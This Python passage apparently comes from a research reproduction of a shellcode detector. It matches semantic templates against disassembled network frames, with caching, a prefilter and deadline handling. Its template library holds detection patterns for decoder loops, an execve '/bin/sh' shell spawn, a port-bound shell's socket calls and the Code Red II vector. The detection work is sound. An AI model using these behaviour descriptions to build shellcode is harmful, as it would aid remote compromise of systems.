from ..obs import ANALYZE_STAGE, MetricsRegistry, StageTimer, Tracer
from ..x86.disasm import disassemble_frame
from ..x86.instruction import Instruction
from .library import library_digest, paper_templates
from .matcher import MatchEngine, PreparedTrace, prepare_trace
from .template import Template, TemplateMatch

__all__ = ["AnalysisResult", "FrameCache", "IRCache", "SemanticAnalyzer"]


@dataclass
class AnalysisResult:
    """Outcome of analyzing one binary frame."""

    matches: list[TemplateMatch] = field(default_factory=list)
    instruction_count: int = 0
    bytes_consumed: int = 0
    frame_size: int = 0
    elapsed: float = 0.0
    cached: bool = False  # replayed from the frame cache

    @property
    def detected(self) -> bool:
        return bool(self.matches)

    def matched_names(self) -> list[str]:
        return [m.template.name for m in self.matches]

    def summary(self) -> str:
        if not self.matches:
            return (f"clean: {self.instruction_count} instructions "
                    f"({self.bytes_consumed}/{self.frame_size} bytes decoded)")
        return "; ".join(m.summary() for m in self.matches)


class FrameCache:
    """Bounded LRU of :class:`AnalysisResult` keyed by frame content hash.

    Byte-identical frames are rampant in real attack traffic — a worm's
    payload is the same across thousands of victims, and even polymorphic
    engines emit repeated sleds — so a hit here skips the whole
    disassemble → lift → propagate → match pipeline.
    """

    def __init__(self, max_entries: int = 4096) -> None:
        self.max_entries = max_entries
        self._entries: OrderedDict[bytes, AnalysisResult] = OrderedDict()
        self.hits = 0
        self.misses = 0
        self.evictions = 0

    def get(self, key: bytes) -> AnalysisResult | None:
        result = self._entries.get(key)
        if result is None:
            self.misses += 1
            return None
        self._entries.move_to_end(key)
        self.hits += 1
        return result

    def put(self, key: bytes, result: AnalysisResult) -> None:
        self._entries[key] = result
        self._entries.move_to_end(key)
        while len(self._entries) > self.max_entries:
            self._entries.popitem(last=False)
            self.evictions += 1

    def clear(self) -> None:
        """Drop every entry (template-set hot reload: the old entries are
        unreachable under the new fingerprint anyway; this frees them)."""
        self._entries.clear()

    def __len__(self) -> int:
        return len(self._entries)

    @property
    def hit_rate(self) -> float:
        total = self.hits + self.misses
        return self.hits / total if total else 0.0


@dataclass
class IREntry:
    """Memoized front-end work for one unique frame: the decoded
    instruction list plus, once some template needed it, the prepared
    (lifted + const-propagated) trace with its lazily built feature and
    anchor index arrays."""

    instructions: list[Instruction]
    consumed: int
    trace: PreparedTrace | None = None


class IRCache:
    """Bounded LRU of :class:`IREntry` keyed by frame content digest.

    One level below the frame cache: entries do not depend on the
    template set, only on the bytes and load address, so the decoded
    instructions and the prepared trace survive template-set changes
    (and the prepared trace carries every per-frame index the match
    plans build — feature cums, anchor cums, statement kind masks —
    so those are built once per unique frame, not once per analysis).
    """

    def __init__(self, max_entries: int = 4096) -> None:
        self.max_entries = max_entries
        self._entries: OrderedDict[bytes, IREntry] = OrderedDict()
        self.hits = 0
        self.misses = 0
        self.evictions = 0

    def get(self, key: bytes) -> IREntry | None:
        entry = self._entries.get(key)
        if entry is None:
            self.misses += 1
            return None
        self._entries.move_to_end(key)
        self.hits += 1
        return entry

    def put(self, key: bytes, entry: IREntry) -> None:
        self._entries[key] = entry
        self._entries.move_to_end(key)
        while len(self._entries) > self.max_entries:
            self._entries.popitem(last=False)
            self.evictions += 1

    def clear(self) -> None:
        self._entries.clear()

    def __len__(self) -> int:
        return len(self._entries)


class SemanticAnalyzer:
    """Matches a template set against binary frames.

    ``min_instructions`` discards frames that decode to fewer instructions
    than any meaningful behaviour needs — random payload bytes frequently
    decode to 1-3 junk instructions, and skipping them is a large part of
    the efficiency story.

    ``frame_cache_size`` bounds the content-hash frame cache (0 disables
    it).  The cache key is ``(sha1(frame bytes), template-set fingerprint,
    base)``: the fingerprint ties an entry to the exact template set it was
    computed under, so an analyzer restored with different templates (or a
    shared cache, later) can never replay a stale match set.

    ``fastpath`` enables the template anchor prefilter
    (:mod:`repro.fastpath`): one Aho-Corasick pass over the frame decides
    which templates can possibly match; frames ruled out for every
    template skip disassemble/lift/match entirely, and anchor offsets
    prune match start positions for the rest.  Anchors are necessary
    conditions, so results are byte-identical with the flag off — the
    prefilter only skips work.  It disengages while a deadline is active
    (skipped frames would not charge deterministic deadline ticks, so
    deadline-trip alerts could diverge between on and off).  Default off
    here; the NIDS pipeline enables it (``--no-fastpath`` disables).
    """

    def __init__(
        self,
        templates: list[Template] | None = None,
        engine: MatchEngine | None = None,
        min_instructions: int = 3,
        frame_cache_size: int = 4096,
        registry: MetricsRegistry | None = None,
        tracer: Tracer | None = None,
        fastpath: bool = False,
        compiled: bool = True,
        ir_cache_size: int | None = None,
    ) -> None:
        self.templates = templates if templates is not None else paper_templates()
        self.engine = engine or MatchEngine(compiled=compiled)
        self.min_instructions = min_instructions
        self.frame_cache = FrameCache(frame_cache_size) if frame_cache_size > 0 else None
        # The IR cache follows the frame cache's size by default, so the
        # "no caching" ablation (frame_cache_size=0) disables both.
        if ir_cache_size is None:
            ir_cache_size = frame_cache_size
        self.ir_cache = IRCache(ir_cache_size) if ir_cache_size > 0 else None
        self.template_fingerprint = self._fingerprint()
        if fastpath:
            # Imported here, not at module top: repro.fastpath compiles
            # anchors *from* core templates, so a top-level import would
            # be circular whenever repro.fastpath is imported first.
            from ..fastpath import CompiledPrefilter
            self.prefilter = CompiledPrefilter(self.templates)
        else:
            self.prefilter = None
        # The analyzer is stages (c)-(e): each gets its own timer, plus
        # the "analyze" aggregate over a whole analyze_frame call (the
        # pre-obs ``frames_analyzed``/``total_elapsed`` attributes are
        # views over that aggregate).
        if registry is None:
            registry = MetricsRegistry()
        self.timer = StageTimer(ANALYZE_STAGE, registry, tracer)
        self.disassemble_timer = StageTimer("disassemble", registry, tracer)
        self.lift_timer = StageTimer("lift", registry, tracer)
        self.match_timer = StageTimer("match", registry, tracer)
        self._deadline_trips = registry.counter(
            "repro_deadline_exceeded_total",
            help="Payload analyses aborted by the per-payload deadline.",
            unit="payloads")
        self._frames_skipped = registry.counter(
            "repro_fastpath_frames_skipped_total",
            help="Frames the anchor prefilter ruled out for every "
                 "template (no disassembly performed).", unit="frames")
        self._anchor_hits = registry.counter(
            "repro_fastpath_anchor_hits_total",
            help="Anchor pattern occurrences found by prefilter scans.",
            unit="occurrences")
        self._starts_pruned = registry.counter(
            "repro_fastpath_candidate_starts_pruned_total",
            help="Match start positions skipped via anchor offsets "
                 "(ruled-out templates count their whole trace).",
            unit="positions")
        self._ir_cache_hits = registry.counter(
            "repro_ir_cache_hits_total",
            help="Frames whose decoded instructions (and, when already "
                 "built, prepared trace) were replayed from the IR "
                 "memoization cache.", unit="frames")
        self._budget_trips = registry.counter(
            "repro_match_budget_trips_total",
            help="Per-(template, frame) searches cut short by the "
                 "max_candidates backtracking budget.", unit="searches")
        self._plan_compile_seconds = registry.counter(
            "repro_match_plan_compile_seconds",
            help="Cumulative time spent compiling templates into match "
                 "plans.", unit="seconds")
        # Compile the library's match plans eagerly at load time so the
        # first frame doesn't pay compilation inside its match span.
        compile_before = self.engine.plan_compile_seconds
        if self.engine.compiled:
            self.engine.compile_plans(self.templates)
        self._plan_compile_seconds.inc(
            self.engine.plan_compile_seconds - compile_before)

    @property
    def frames_analyzed(self) -> int:
        return self.timer.calls

    @frames_analyzed.setter
    def frames_analyzed(self, value: int) -> None:
        self.timer.calls = value

    @property
    def total_elapsed(self) -> float:
        return self.timer.elapsed

    @total_elapsed.setter
    def total_elapsed(self, value: float) -> None:
        self.timer.elapsed = value

    def _fingerprint(self) -> bytes:
        """Stable digest of the template set + matcher configuration."""
        h = hashlib.sha1()
        h.update(library_digest(self.templates))
        h.update(str(self.min_instructions).encode())
        return h.digest()

    def set_templates(self, templates: list[Template]) -> None:
        """Hot-swap the template library, invalidating derived caches
        atomically (no analysis runs between the swap and the clears —
        the analyzer is single-threaded per process).

        - the frame cache is cleared: its keys embed the template-set
          fingerprint, so old entries were unreachable anyway — this
          frees them and resets the keyspace in one step;
        - compiled match plans are dropped and recompiled: the plan
          cache is keyed by template identity and would otherwise pin
          the retired library's objects forever;
        - the anchor prefilter is rebuilt from the new library;
        - the IR cache *survives*: decoded instructions and prepared
          traces depend only on frame bytes (anchor cums are keyed by
          opcode content, not template identity), so the expensive
          front-end work carries over across reloads.
        """
        self.templates = templates
        self.template_fingerprint = self._fingerprint()
        if self.frame_cache is not None:
            self.frame_cache.clear()
        self.engine.clear_plans()
        compile_before = self.engine.plan_compile_seconds
        if self.engine.compiled:
            self.engine.compile_plans(templates)
        self._plan_compile_seconds.inc(
            self.engine.plan_compile_seconds - compile_before)
        if self.prefilter is not None:
            from ..fastpath import CompiledPrefilter
            self.prefilter = CompiledPrefilter(templates)

    def analyze_frame(self, data: bytes, base: int = 0,
                      deadline=None) -> AnalysisResult:
        """Disassemble a binary frame and match all templates against it.

        With the frame cache enabled, a byte-identical frame seen earlier
        (under the same template set and load address) replays the stored
        result without touching the disassembler or matcher.

        ``deadline`` is a :class:`repro.resilience.Deadline` shared across
        every frame of one payload; the disassemble/lift/match loop
        charges it cooperatively and the whole call raises
        :class:`~repro.errors.DeadlineExceeded` when the budget runs out.
        A frame aborted mid-analysis is never cached (the raise skips the
        ``put``), so a later run with a larger budget starts clean.
        """
        with self.timer.timed(nbytes=len(data)):
            start = time.perf_counter()
            key = None
            digest = None
            if self.frame_cache is not None or self.ir_cache is not None:
                digest = hashlib.sha1(data).digest()
            if self.frame_cache is not None:
                key = (digest
                       + self.template_fingerprint
                       + base.to_bytes(8, "little", signed=True))
                stored = self.frame_cache.get(key)
                if stored is not None:
                    # Replays cost (nearly) nothing, so they are free even
                    # for an exhausted deadline.
                    return replace(stored, cached=True,
                                   elapsed=time.perf_counter() - start)
            # Fast-path admission: one multi-pattern pass decides which
            # templates can possibly match.  Anchors are necessary
            # conditions, so a frame with no surviving template cannot
            # produce a match and skips the decode pipeline outright.
            # Disengaged under a deadline — a skipped frame would charge
            # no deterministic ticks, and deadline-trip alerts must stay
            # byte-identical with the prefilter off.  Skipped frames are
            # never cached, so cache entries always hold full-analysis
            # results identical with the prefilter off.
            scan = None
            if self.prefilter is not None and deadline is None:
                scan = self.prefilter.scan(data)
                self._anchor_hits.inc(scan.anchor_hits)
                if not scan.any_survivor:
                    self._frames_skipped.inc()
                    return AnalysisResult(frame_size=len(data),
                                          elapsed=time.perf_counter() - start)
            # Lifted-IR memoization: identical frame content skips
            # disassemble + lift even when the match step must re-run
            # (different template set, evicted frame-cache entry, or the
            # frame cache disabled).  Like the prefilter, it disengages
            # under a deadline — replayed IR would charge no disassembly
            # ticks, so deadline-trip behaviour could diverge.
            entry = None
            if self.ir_cache is not None and deadline is None:
                ir_key = digest + base.to_bytes(8, "little", signed=True)
                entry = self.ir_cache.get(ir_key)
                if entry is not None:
                    self._ir_cache_hits.inc()
                else:
                    with self.disassemble_timer.timed(nbytes=len(data)):
                        instructions, consumed = disassemble_frame(data, base)
                    entry = IREntry(instructions, consumed)
                    self.ir_cache.put(ir_key, entry)
                result = self._analyze(entry.instructions,
                                       nbytes=entry.consumed, scan=scan,
                                       base=base, entry=entry)
                consumed = entry.consumed
            else:
                try:
                    with self.disassemble_timer.timed(nbytes=len(data)):
                        instructions, consumed = disassemble_frame(
                            data, base,
                            tick=deadline.tick if deadline is not None else None)
                    result = self._analyze(instructions, nbytes=consumed,
                                           deadline=deadline, scan=scan,
                                           base=base)
                except DeadlineExceeded:
                    self._deadline_trips.inc()
                    raise
            result.bytes_consumed = consumed
            result.frame_size = len(data)
            result.elapsed = time.perf_counter() - start
            if key is not None:
                self.frame_cache.put(key, result)
            return result

    def analyze_instructions(self, instructions: list[Instruction]) -> AnalysisResult:
        """Match against an already-decoded instruction list."""
        nbytes = sum(i.size for i in instructions)
        with self.timer.timed(nbytes=nbytes):
            start = time.perf_counter()
            result = self._analyze(instructions, nbytes=nbytes)
            result.bytes_consumed = nbytes
            result.frame_size = result.bytes_consumed
            result.elapsed = time.perf_counter() - start
            return result

    def prepare(self, instructions: list[Instruction]) -> PreparedTrace:
        """Expose trace preparation (for tests and ablations)."""
        return prepare_trace(instructions)

    def _analyze(self, instructions: list[Instruction],
                 nbytes: int = 0, deadline=None, scan=None,
                 base: int = 0, entry: IREntry | None = None) -> AnalysisResult:
        result = AnalysisResult(instruction_count=len(instructions))
        if len(instructions) < self.min_instructions:
            return result
        if deadline is not None:
            # Charge lift and match up front, proportionally to the work
            # they are about to do: one unit per instruction lifted, one
            # per instruction-template pair matched.  Deterministic —
            # the same payload trips at the same point on every machine.
            deadline.tick(len(instructions))
        if entry is not None and entry.trace is not None:
            trace = entry.trace
        else:
            with self.lift_timer.timed(nbytes=nbytes):
                trace = prepare_trace(instructions)
            if entry is not None:
                entry.trace = trace
        if deadline is not None:
            deadline.tick(len(instructions) * max(1, len(self.templates)))
        with self.match_timer.timed(nbytes=nbytes):
            trips_before = self.engine.budget_trips
            compile_before = self.engine.plan_compile_seconds
            if scan is not None:
                pruned_before = self.engine.starts_pruned
                result.matches = self.engine.match_all(
                    self.templates, trace, prefilter=self.prefilter,
                    scan=scan, base=base)
                self._starts_pruned.inc(
                    self.engine.starts_pruned - pruned_before)
            else:
                result.matches = self.engine.match_all(self.templates, trace)
            self._budget_trips.inc(self.engine.budget_trips - trips_before)
            self._plan_compile_seconds.inc(
                self.engine.plan_compile_seconds - compile_before)
        return result

"""The template library.

These are the behaviours the paper's evaluation exercises:

- ``xor_decrypt_loop`` — the Figure 2/6 decryption-loop template: an xor
  read-modify-write through a pointer register, a pointer step, and a
  branch back.  Detects Figure 1(a)-(c), iis-asp style encoded payloads,
  Clet output, and ADMmutate's first decoder family.
- ``admmutate_alt_decoder`` — the Figure 7 template added after the 68%
  experiment: a load / mov-or-and-not compute chain / store decoder over a
  single memory-location-register pair.
- ``linux_shell_spawn`` — Figure 6: the execve("/bin/sh") behaviour
  (stack-constructed string + ``int 0x80`` with eax = 11).
- ``port_bind_shell`` — the extension noted in §5.1: socketcall
  socket/bind/listen before the shell spawn.
- ``codered_ii_vector`` — §5.3: the Code Red II initial exploitation
  vector (repeated pushes of 0x7801xxxx system-DLL addresses feeding an
  indirect call).

``generic_decrypt_loop`` is an extension beyond the paper: it widens the
rmw decoder family to add/sub/rol/ror/not, closing the obvious variant the
original template set would miss.
"""

from __future__ import annotations

import hashlib

from .template import (
    ConstBytesWrite,
    ConstCapture,
    IndirectCall,
    LoadFrom,
    LoopBack,
    MemRmw,
    PointerStep,
    PushValue,
    RegCompute,
    StoreTo,
    Syscall,
    Template,
)


def _looks_like_sockaddr_in(value: int) -> bool:
    """An AF_INET sockaddr head pushed as a little-endian dword:
    low word == 2 (AF_INET) and a non-zero network-order port word."""
    return (value & 0xFFFF) == 2 and (value >> 16) != 0


def sockaddr_port(value: int) -> int:
    """Extract the host-order TCP port from a captured sockaddr dword."""
    return ((value >> 16) & 0xFF) << 8 | ((value >> 24) & 0xFF)

__all__ = [
    "library_digest",
    "sockaddr_port",
    "xor_decrypt_loop",
    "admmutate_alt_decoder",
    "generic_decrypt_loop",
    "linux_shell_spawn",
    "port_bind_shell",
    "codered_ii_vector",
    "paper_templates",
    "xor_only_templates",
    "decoder_templates",
    "all_templates",
]


def library_digest(templates: list[Template]) -> bytes:
    """Order-sensitive digest of a template set.

    The digest changes whenever any template's structure changes (see
    :meth:`Template.fingerprint`) or the set's membership/order changes.
    The analyzer folds it into its frame-cache key, and the compiled
    match-plan and lifted-IR caches inherit invalidation from it: a new
    library digest means new cache keys, so no stale plan or cached
    result can ever be replayed against an edited template set.
    """
    h = hashlib.sha1()
    for template in templates:
        h.update(template.fingerprint())
        h.update(b"\x00")
    return h.digest()


def xor_decrypt_loop() -> Template:
    """The paper's primary decryption-loop template (Figures 2 and 6)."""
    return Template(
        name="xor_decrypt_loop",
        description="xor read-modify-write through a pointer, pointer step, "
                    "loop back — the classic polymorphic decoder",
        category="decoder",
        severity="high",
        ordered=False,  # loop bodies may be rotated; semantics are unordered
        max_gap=24,
        nodes=[
            MemRmw(ops=frozenset({"xor"}), addr="PTR", key="KEY", size=None),
            PointerStep(var="PTR"),
            LoopBack(),
        ],
    )


def admmutate_alt_decoder() -> Template:
    """ADMmutate's second decoder family (Figure 7): a split
    load-compute-store loop using mov/or/and/not sequences."""
    return Template(
        name="admmutate_alt_decoder",
        description="load from [PTR], transform register with or/and/not/"
                    "xor/add/sub chain, store back, step pointer, loop",
        category="decoder",
        severity="high",
        ordered=False,
        max_gap=24,
        repeats={1: (1, 6)},
        nodes=[
            LoadFrom(dst="R", addr="PTR", size=None),
            RegCompute(reg="R"),
            StoreTo(addr="PTR", src="R", size=None),
            PointerStep(var="PTR"),
            LoopBack(),
        ],
    )


def generic_decrypt_loop() -> Template:
    """Extension: rmw decoders that use add/sub/rotate instead of xor."""
    return Template(
        name="generic_decrypt_loop",
        description="any invertible read-modify-write decoder loop "
                    "(add/sub/xor/rol/ror/not)",
        category="decoder-extension",
        severity="medium",
        ordered=False,
        max_gap=24,
        nodes=[
            MemRmw(ops=frozenset({"xor", "add", "sub", "rol", "ror", "not"}),
                   addr="PTR", key="KEY", size=None),
            PointerStep(var="PTR"),
            LoopBack(),
        ],
    )


def linux_shell_spawn() -> Template:
    """The Figure 6 template: execve of a stack-constructed /bin/sh."""
    return Template(
        name="linux_shell_spawn",
        description="write '/bin' and 'sh' constants to memory/stack, then "
                    "int 0x80 with eax=11 (execve)",
        category="shell-spawn",
        severity="critical",
        ordered=False,
        max_gap=48,
        nodes=[
            ConstBytesWrite(contains=b"/bin"),
            ConstBytesWrite(contains=b"sh"),
            Syscall(vector=0x80, regs={"eax": 11}),
        ],
    )


def port_bind_shell() -> Template:
    """The §5.1 extension: a socket is created and bound before the shell
    spawn, i.e. the shell is served on a network port."""
    return Template(
        name="port_bind_shell",
        description="socketcall socket(ebx=1), bind(ebx=2), listen(ebx=4) "
                    "sequence — shell bound to a port",
        category="shell-spawn",
        severity="critical",
        ordered=True,
        max_gap=48,
        nodes=[
            Syscall(vector=0x80, regs={"eax": 0x66, "ebx": 1}),
            ConstCapture(var="SOCKADDR", predicate=_looks_like_sockaddr_in,
                         label="sockaddr_in dword (bound port)"),
            Syscall(vector=0x80, regs={"eax": 0x66, "ebx": 2}),
            Syscall(vector=0x80, regs={"eax": 0x66, "ebx": 4}),
        ],
    )


def codered_ii_vector() -> Template:
    """The §5.3 template for Code Red II's initial exploitation vector."""
    return Template(
        name="codered_ii_vector",
        description="repeated pushes of 0x7801xxxx system-DLL addresses "
                    "followed by an indirect call (CRII memory addressing)",
        category="worm",
        severity="critical",
        ordered=True,
        max_gap=16,
        repeats={0: (2, 8)},
        nodes=[
            PushValue(predicate=lambda v: (v >> 16) == 0x7801,
                      label="0x7801xxxx system address"),
            IndirectCall(),
        ],
    )


def xor_only_templates() -> list[Template]:
    """The template set before the ADMmutate 68% experiment (§5.2): the xor
    decoder only."""
    return [xor_decrypt_loop()]


def decoder_templates() -> list[Template]:
    """Both decoder families — the set that reaches 100% on ADMmutate."""
    return [xor_decrypt_loop(), admmutate_alt_decoder()]


def paper_templates() -> list[Template]:
    """The full template set used in the paper's evaluation (§5.1-5.4)."""
    return [
        xor_decrypt_loop(),
        admmutate_alt_decoder(),
        linux_shell_spawn(),
        port_bind_shell(),
        codered_ii_vector(),
    ]


def all_templates() -> list[Template]:
    """Paper templates plus extensions."""
    return paper_templates() + [generic_decrypt_loop()]

"""The semantic template language.

A template (after Christodorescu et al. [5], as adopted by the paper)
describes a *behaviour*: an ordered sequence of abstract operations over
template variables — register variables (``PTR``, ``R``) and symbolic
constants (``KEY``).  A program satisfies a template iff it contains an
instruction sequence exhibiting that behaviour, regardless of the concrete
registers, constants, interleaved junk, or code order used.

Template nodes are small declarative classes with a ``match`` method that
attempts to extend a binding store with one IR statement.  The search over
statement sequences (gaps, backtracking, def-use preservation) lives in
:mod:`repro.core.matcher`.

Binding values are tagged tuples:

- ``("reg", family)`` — a register variable bound to a register family;
- ``("const", value)`` — a symbolic constant resolved to a concrete value
  (directly, or through constant propagation);
- ``("symconst", family)`` — a symbolic constant carried in a register
  whose value could not be resolved; consistency is still enforced by
  register identity, which preserves [5]'s def-use requirement.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Sequence

from ..ir.dataflow import ConstEnv
from ..ir.ops import (
    Assign,
    BinOp,
    Branch,
    Const,
    Expr,
    Interrupt,
    Load,
    MemRef,
    Pop,
    Push,
    Reg,
    Stmt,
    Store,
    StringWrite,
    UnOp,
)

__all__ = [
    "Bindings", "MatchContext", "Node", "Template", "TemplateMatch",
    "MemRmw", "LoadFrom", "RegCompute", "StoreTo", "PointerStep",
    "LoopBack", "Syscall", "ConstBytesWrite", "RegFromEsp", "PushValue",
    "IndirectCall", "ConstCapture", "bind",
]

Bindings = dict[str, tuple[str, int | str]]


@dataclass
class MatchContext:
    """Search-wide information nodes may consult."""

    trace: list[Stmt]
    envs: list[ConstEnv]
    pos_by_address: dict[int, int]
    first_pos: int = -1  # trace position of the first matched node


def bind(bindings: Bindings, var: str, value: tuple[str, int | str]) -> Bindings | None:
    """Extend a binding store; ``None`` on inconsistency."""
    existing = bindings.get(var)
    if existing is None:
        out = dict(bindings)
        out[var] = value
        return out
    return bindings if existing == value else None


def _resolve(expr: Expr, env: ConstEnv) -> tuple[str, int | str] | None:
    """Resolve an expression to a binding value (constant preferred)."""
    if isinstance(expr, Const):
        return ("const", expr.value)
    if isinstance(expr, Reg):
        value = env.get(expr.family, expr.size)
        if value is not None:
            return ("const", value)
        return ("symconst", expr.family)
    return None


def _reg_of(expr: Expr) -> str | None:
    return expr.family if isinstance(expr, Reg) else None


def _mem_base_reg(mem: MemRef) -> str | None:
    """Pointer register of a simple ``[reg]`` or ``[reg+disp]`` reference."""
    if mem.index is not None:
        return None
    return _reg_of(mem.base) if mem.base is not None else None


# Trace features each node type needs to be satisfiable at all; used by
# the matcher's pre-filter (the paper's §4.3 instruction pruning).
_NODE_FEATURES: dict[str, tuple[str, ...]] = {
    "MemRmw": ("store",),
    "LoadFrom": ("load",),
    "StoreTo": ("store",),
    "PointerStep": (),
    "LoopBack": ("branch",),
    "Syscall": ("interrupt",),
    "ConstBytesWrite": (),
    "RegFromEsp": (),
    "PushValue": ("push",),
    "IndirectCall": ("call",),
    "ConstCapture": (),
    "RegCompute": (),
}


class Node:
    """Base template node."""

    #: variables this node can bind (used for def-use liveness analysis)
    def variables(self) -> set[str]:
        return set()

    def match(
        self, stmt: Stmt, env: ConstEnv, bindings: Bindings, ctx: MatchContext
    ) -> Bindings | None:
        raise NotImplementedError

    def describe(self) -> str:
        raise NotImplementedError

    def __str__(self) -> str:
        return self.describe()


@dataclass
class MemRmw(Node):
    """Read-modify-write of memory through a pointer register:
    ``mem[PTR] := mem[PTR] <op> KEY`` — the compact x86 form
    (``xor byte ptr [eax], 0x95`` and friends).
    """

    ops: frozenset[str] = frozenset({"xor"})
    addr: str = "PTR"
    key: str = "KEY"
    size: int | None = 1  # None = any access width

    def variables(self) -> set[str]:
        return {self.addr, self.key}

    def match(self, stmt, env, bindings, ctx):
        if not isinstance(stmt, Store):
            return None
        if self.size is not None and stmt.mem.size != self.size:
            return None
        base = _mem_base_reg(stmt.mem)
        if base is None:
            return None
        src = stmt.src
        if isinstance(src, UnOp):
            if src.op not in self.ops:
                return None
            if not (isinstance(src.operand, Load) and src.operand.mem == stmt.mem):
                return None
            b = bind(bindings, self.addr, ("reg", base))
            if b is None:
                return None
            return bind(b, self.key, ("const", 0))  # unary: no key operand
        if not isinstance(src, BinOp) or src.op not in self.ops:
            return None
        # One side must reload the same location; the other is the key.
        if isinstance(src.lhs, Load) and src.lhs.mem == stmt.mem:
            key_expr = src.rhs
        elif isinstance(src.rhs, Load) and src.rhs.mem == stmt.mem:
            key_expr = src.lhs
        else:
            return None
        key_val = _resolve(key_expr, env)
        if key_val is None:
            return None
        b = bind(bindings, self.addr, ("reg", base))
        if b is None:
            return None
        return bind(b, self.key, key_val)

    def describe(self) -> str:
        ops = "/".join(sorted(self.ops))
        width = {1: "byte", 2: "word", 4: "dword", None: "any"}[self.size]
        return f"mem{width}[{self.addr}] := mem[{self.addr}] {ops} {self.key}"


@dataclass
class LoadFrom(Node):
    """``R := mem[PTR]`` — the load half of a split decoder."""

    dst: str = "R"
    addr: str = "PTR"
    size: int | None = None

    def variables(self) -> set[str]:
        return {self.dst, self.addr}

    def match(self, stmt, env, bindings, ctx):
        if not isinstance(stmt, Assign) or not isinstance(stmt.src, Load):
            return None
        if self.size is not None and stmt.src.mem.size != self.size:
            return None
        base = _mem_base_reg(stmt.src.mem)
        if base is None:
            return None
        b = bind(bindings, self.addr, ("reg", base))
        if b is None:
            return None
        return bind(b, self.dst, ("reg", stmt.dst))

    def describe(self) -> str:
        return f"{self.dst} := mem[{self.addr}]"


@dataclass
class RegCompute(Node):
    """``R := R <op> (...)`` — an arithmetic/logic transformation of the
    working register.  Matches one statement; set ``min_repeat``/
    ``max_repeat`` on the template sequence for chains."""

    reg: str = "R"
    ops: frozenset[str] = frozenset({"xor", "or", "and", "add", "sub", "not",
                                     "neg", "rol", "ror", "shl", "shr"})

    def variables(self) -> set[str]:
        return {self.reg}

    def match(self, stmt, env, bindings, ctx):
        if not isinstance(stmt, Assign):
            return None
        bound = bindings.get(self.reg)
        family = stmt.dst
        if bound is not None and bound != ("reg", family):
            return None
        src = stmt.src
        if isinstance(src, UnOp):
            if src.op not in self.ops:
                return None
            if _reg_of(src.operand) != family:
                return None
        elif isinstance(src, BinOp):
            if src.op not in self.ops:
                return None
            if _reg_of(src.lhs) != family and _reg_of(src.rhs) != family:
                return None
        else:
            return None
        return bind(bindings, self.reg, ("reg", family))

    def describe(self) -> str:
        return f"{self.reg} := {self.reg} <{'/'.join(sorted(self.ops))}> ..."


@dataclass
class StoreTo(Node):
    """``mem[PTR] := R`` — the store half of a split decoder."""

    addr: str = "PTR"
    src: str = "R"
    size: int | None = None

    def variables(self) -> set[str]:
        return {self.addr, self.src}

    def match(self, stmt, env, bindings, ctx):
        if not isinstance(stmt, Store):
            return None
        if self.size is not None and stmt.mem.size != self.size:
            return None
        base = _mem_base_reg(stmt.mem)
        if base is None:
            return None
        src_reg = _reg_of(stmt.src)
        if src_reg is None:
            return None
        b = bind(bindings, self.addr, ("reg", base))
        if b is None:
            return None
        return bind(b, self.src, ("reg", src_reg))

    def describe(self) -> str:
        return f"mem[{self.addr}] := {self.src}"


@dataclass
class PointerStep(Node):
    """``PTR := PTR ± k`` for a small stride k (1..8)."""

    var: str = "PTR"
    max_step: int = 8

    def variables(self) -> set[str]:
        return {self.var}

    def match(self, stmt, env, bindings, ctx):
        if not isinstance(stmt, Assign) or not isinstance(stmt.src, BinOp):
            return None
        src = stmt.src
        if src.op not in ("add", "sub"):
            return None
        if _reg_of(src.lhs) != stmt.dst:
            return None
        if not isinstance(src.rhs, Const):
            step = env.get(_reg_of(src.rhs)) if _reg_of(src.rhs) else None
            if step is None:
                return None
        else:
            step = src.rhs.value
        if not 1 <= step <= self.max_step:
            return None
        return bind(bindings, self.var, ("reg", stmt.dst))

    def describe(self) -> str:
        return f"{self.var} := {self.var} ± k   (k <= {self.max_step})"


@dataclass
class LoopBack(Node):
    """A control transfer back to (at or before) the first matched node —
    the loop that makes a decoder a decoder."""

    def match(self, stmt, env, bindings, ctx):
        if not isinstance(stmt, Branch):
            return None
        if stmt.kind not in ("jmp", "jcc", "loop", "loope", "loopne", "jecxz"):
            return None
        if stmt.target is None:
            return None
        pos = ctx.pos_by_address.get(stmt.target)
        if pos is None or ctx.first_pos < 0:
            return None
        return bindings if pos <= ctx.first_pos else None

    def describe(self) -> str:
        return "branch back to loop head"


@dataclass
class Syscall(Node):
    """``int <vector>`` with required register constants, resolved via
    constant propagation (so ``xor eax,eax; mov al, 0xb`` qualifies)."""

    vector: int = 0x80
    regs: dict[str, int] = field(default_factory=dict)  # family -> value

    def match(self, stmt, env, bindings, ctx):
        if not isinstance(stmt, Interrupt) or stmt.vector != self.vector:
            return None
        for family, expected in self.regs.items():
            if env.get(family) != expected:
                return None
        return bindings

    def describe(self) -> str:
        conds = ", ".join(f"{r}={v:#x}" for r, v in sorted(self.regs.items()))
        return f"int {self.vector:#x}" + (f" with {conds}" if conds else "")


@dataclass
class ConstBytesWrite(Node):
    """A constant whose little-endian bytes contain ``contains`` is pushed
    or stored — how shellcode builds strings like ``/bin//sh`` in memory."""

    contains: bytes = b"/bin"

    def match(self, stmt, env, bindings, ctx):
        value: int | None = None
        if isinstance(stmt, Push):
            resolved = _resolve(stmt.src, env)
            if resolved is not None and resolved[0] == "const":
                value = int(resolved[1])
        elif isinstance(stmt, Store):
            resolved = _resolve(stmt.src, env)
            if resolved is not None and resolved[0] == "const":
                value = int(resolved[1])
        if value is None:
            return None
        raw = value.to_bytes(4, "little")
        return bindings if self.contains in raw else None

    def describe(self) -> str:
        return f"write constant containing {self.contains!r}"


@dataclass
class RegFromEsp(Node):
    """``R := esp (+ small offset)`` — taking the address of a
    stack-constructed string/argv block."""

    dst: str | None = None  # fixed family, or None to bind var "ARG"
    var: str = "ARG"

    def variables(self) -> set[str]:
        return set() if self.dst else {self.var}

    def match(self, stmt, env, bindings, ctx):
        if not isinstance(stmt, Assign):
            return None
        src = stmt.src
        ok = _reg_of(src) == "esp" or (
            isinstance(src, BinOp)
            and src.op in ("add", "sub")
            and _reg_of(src.lhs) == "esp"
            and isinstance(src.rhs, Const)
            and src.rhs.value <= 64
        )
        if not ok:
            return None
        if self.dst is not None:
            return bindings if stmt.dst == self.dst else None
        return bind(bindings, self.var, ("reg", stmt.dst))

    def describe(self) -> str:
        target = self.dst or self.var
        return f"{target} := esp (+k)"


@dataclass
class PushValue(Node):
    """A push of a constant satisfying a predicate — e.g. Code Red II's
    jump addresses into the 0x7801xxxx system-DLL range."""

